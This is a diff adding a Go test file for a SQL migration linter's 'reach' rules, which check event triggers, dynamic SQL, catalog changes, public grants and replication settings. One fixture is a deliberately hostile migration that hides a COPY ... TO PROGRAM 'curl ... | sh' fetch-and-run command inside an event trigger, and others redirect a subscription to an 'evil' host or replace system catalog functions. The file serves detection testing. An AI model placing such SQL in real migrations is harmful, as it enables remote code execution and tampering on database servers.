@@ -1,0 +1,125 @@
+package lint
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/schemagate/schemagate/internal/migrate"
+	"github.com/schemagate/schemagate/internal/sqlparse"
+)
+
+// reachRuleIDs are the rules of check_reach.go.
+var reachRuleIDs = []string{"event-trigger", "dynamic-sql", "security-definer-search-path", "system-catalog-change",
+	"grant-to-public", "publish-all-tables", "session-replication-role"}
+
+// TestReachRuleExamples: each rule's documented Bad example raises it at its default class or above, its
+// Good example does not.
+func TestReachRuleExamples(t *testing.T) {
+	t.Parallel()
+	for _, id := range reachRuleIDs {
+		r, ok := Lookup(id)
+		if !ok {
+			t.Fatalf("no rule %s", id)
+		}
+		if got, found := riskOf(t, r.Bad, id); !found || got < r.Risk {
+			t.Errorf("%s: Bad example %q gives %v (found %v), want at least %v", id, r.Bad, got, found, r.Risk)
+		}
+		if _, found := riskOf(t, r.Good, id); found {
+			t.Errorf("%s: Good example %q triggers it", id, r.Good)
+		}
+	}
+}
+
+// TestReachRuleClasses: creating or enabling an event trigger, changing the system catalogs and turning
+// off triggers are dangerous; the rest is caution.
+func TestReachRuleClasses(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name, sql, rule string
+		want            Risk
+	}{
+		{"create event trigger", "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();", "event-trigger", Dangerous},
+		{"enable event trigger", "ALTER EVENT TRIGGER t ENABLE;", "event-trigger", Dangerous},
+		{"enable always", "ALTER EVENT TRIGGER t ENABLE ALWAYS;", "event-trigger", Dangerous},
+		{"enable replica", "ALTER EVENT TRIGGER t ENABLE REPLICA;", "event-trigger", Dangerous},
+		{"disable event trigger", "ALTER EVENT TRIGGER t DISABLE;", "event-trigger", Caution},
+		{"drop event trigger", "DROP EVENT TRIGGER t;", "event-trigger", Caution},
+		{"event trigger in a DO block", "DO $$ BEGIN CREATE EVENT TRIGGER t ON sql_drop EXECUTE FUNCTION f(); END $$;", "event-trigger", Dangerous},
+		{"dynamic sql by concatenation", "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$;", "dynamic-sql", Caution},
+		{"dynamic sql by format", "CREATE PROCEDURE p(t text) LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', t); END $$;", "dynamic-sql", Caution},
+		{"security definer", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';", "security-definer-search-path", Caution},
+		{"replace pg_catalog.now", "CREATE OR REPLACE FUNCTION pg_catalog.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT now()';", "system-catalog-change", Dangerous},
+		{"drop from information_schema", "DROP VIEW information_schema.tables;", "system-catalog-change", Dangerous},
+		{"default privileges to public", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;", "grant-to-public", Caution},
+		{"all tables to public", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC;", "grant-to-public", Caution},
+		{"publication for all tables", "CREATE PUBLICATION p FOR ALL TABLES;", "publish-all-tables", Caution},
+		{"subscription", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;", "foreign-connection", Dangerous},
+		{"subscription moved", "ALTER SUBSCRIPTION s CONNECTION 'host=evil';", "foreign-connection", Dangerous},
+		{"replication role", "SET session_replication_role = replica;", "session-replication-role", Dangerous},
+		{"replication role by set_config", "SELECT set_config('session_replication_role', 'replica', false);", "session-replication-role", Dangerous},
+		{"replication role from a variable", "DO $$ DECLARE r text := 'replica'; BEGIN PERFORM set_config('session_replication_role', r, true); END $$;", "session-replication-role", Dangerous},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			got, found := riskOf(t, tt.sql, tt.rule)
+			if !found || got != tt.want {
+				t.Errorf("%s: %s %v (found %v), want %v", tt.sql, tt.rule, got, found, tt.want)
+			}
+		})
+	}
+}
+
+// TestHostileEventTrigger is the security tester's migration: an event trigger whose function builds
+// COPY … PROGRAM from pieces. Before check_reach.go it was rated safe.
+func TestHostileEventTrigger(t *testing.T) {
+	t.Parallel()
+	sql := `CREATE FUNCTION f() RETURNS event_trigger LANGUAGE plpgsql AS $$
+BEGIN
+  EXECUTE 'CO' || 'PY (SELECT 1) TO PRO' || 'GRAM ''curl https://example.com/x | sh''';
+END $$;
+CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();`
+	s := &migrate.Script{File: "m.sql", SQL: sql, Statements: sqlparse.Parse(sql)}
+	got := map[string]Risk{}
+	for _, f := range AnalyzeScript(s, true, Config{Schema: testSchema(t)}) {
+		got[f.Rule] = Max(got[f.Rule], f.Risk)
+	}
+	if got["event-trigger"] != Dangerous {
+		t.Errorf("event-trigger: %v, want dangerous (findings %v)", got["event-trigger"], got)
+	}
+	if got["server-program"] != Dangerous {
+		t.Errorf("server-program from the folded EXECUTE: %v, want dangerous (findings %v)", got["server-program"], got)
+	}
+}
+
+// TestReachRulesQuietOnOrdinarySQL: legitimate migration SQL raises none of this file's rules.
+func TestReachRulesQuietOnOrdinarySQL(t *testing.T) {
+	t.Parallel()
+	sql := strings.Join([]string{
+		"CREATE FUNCTION purge_sessions() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DELETE FROM sessions WHERE expires_at < now()'; END $$;",
+		"CREATE FUNCTION n(d date) RETURNS bigint LANGUAGE plpgsql AS $$ DECLARE c bigint; BEGIN EXECUTE 'SELECT count(*) FROM users WHERE created_at > $1' INTO c USING d; RETURN c; END $$;",
+		"CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$;",
+		"CREATE TRIGGER users_touch BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch();",
+		"CREATE FUNCTION uc() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM public.users';",
+		"GRANT SELECT, INSERT ON users TO app_rw;",
+		"GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_ro;",
+		"ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO app_ro;",
+		"GRANT EXECUTE ON FUNCTION touch() TO PUBLIC;",
+		"REVOKE ALL ON SCHEMA public FROM PUBLIC;",
+		"CREATE PUBLICATION orders_pub FOR TABLE orders;",
+		"CREATE VIEW rels AS SELECT relname FROM pg_catalog.pg_class;",
+		"CREATE TABLE t1 (id pg_catalog.int8 DEFAULT 1);",
+		"SET search_path = app, public;",
+		"SELECT set_config('lock_timeout', '2s', false);",
+		"RESET session_replication_role;",
+		"DO $$ BEGIN EXECUTE 'ALTER TABLE users ADD COLUMN x int'; END $$;",
+	}, "\n")
+	s := &migrate.Script{File: "m.sql", SQL: sql, Statements: sqlparse.Parse(sql)}
+	for _, f := range AnalyzeScript(s, true, Config{Schema: testSchema(t)}) {
+		for _, id := range reachRuleIDs {
+			if f.Rule == id {
+				t.Errorf("%s", f)
+			}
+		}
+	}
+}
